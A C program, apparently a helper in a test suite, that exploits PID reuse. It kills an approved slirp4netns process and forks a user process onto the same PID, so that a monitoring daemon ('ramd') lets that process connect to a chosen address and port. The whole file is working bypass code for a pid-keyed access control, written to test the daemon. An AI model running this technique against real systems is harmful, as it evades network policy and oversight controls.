/* The host's slirp4netns, started by its user under its own name (no
 * ptrace, no library: it waits, blocked, for a writer on a FIFO it takes
 * for its namespace's path). Once ramd has let it through (WAIT_MS), its
 * user cycles pids until the next one is the helper's, kills the helper,
 * and forks: the child, a process of the user's own at the helper's pid,
 * connects to TO:PORT before ramd's next scan. Prints "ok", the errno, or
 * "missed" when another process took the pid first (each attempt starts a
 * new helper). Usage: reuse HELPER FIFO TO PORT WAIT_MS */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 6) return 2;
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[4]))};
    inet_pton(AF_INET, argv[3], &to.sin_addr);
    for (int attempt = 0; attempt < 5; attempt++) {
        pid_t helper = fork();
        if (helper == 0) {
            /* Its own child stays blocked on the FIFO: keep it off our
             * output (the test reads to end of file). */
            int null = open("/dev/null", O_RDWR);
            dup2(null, 0);
            dup2(null, 1);
            dup2(null, 2);
            execl(argv[1], "slirp4netns", "--netns-type=path", argv[2], "tap0", (char *)NULL);
            _exit(127);
        }
        usleep(atoi(argv[5]) * 1000);
        /* Cycle pids until the last one handed out is just below the
         * helper's (the pids between may be taken: ours, for one). */
        long spins = 0;
        for (;;) {
            pid_t p = fork();
            if (p == 0) _exit(0);
            if (p < 0) break;
            waitpid(p, NULL, 0);
            if ((p < helper && p >= helper - 20) || ++spins > 10000000) break;
        }
        kill(helper, SIGKILL);
        waitpid(helper, NULL, 0);
        /* Fork until a child lands on the helper's pid or past it. */
        char out[64] = "missed";
        for (int tries = 0; tries < 40; tries++) {
            int pipefd[2];
            if (pipe(pipefd) != 0) return 1;
            pid_t again = fork();
            if (again == 0) {
                const char *result = "missed";
                char buf[64];
                if (getpid() == helper) {
                    int s = socket(AF_INET, SOCK_STREAM, 0);
                    if (connect(s, (struct sockaddr *)&to, sizeof to) == 0) result = "ok";
                    else {
                        snprintf(buf, sizeof buf, "%s", strerrorname_np(errno));
                        result = buf;
                    }
                }
                if (write(pipefd[1], result, strlen(result)) < 0) _exit(1);
                _exit(0);
            }
            close(pipefd[1]);
            memset(out, 0, sizeof out);
            if (read(pipefd[0], out, sizeof out - 1) < 0) return 1;
            close(pipefd[0]);
            waitpid(again, NULL, 0);
            if (again >= helper) break;
        }
        if (strcmp(out, "missed") != 0 || attempt == 4) {
            printf("%s\n", out);
            fflush(stdout);
            return 0;
        }
    }
    return 0;
}
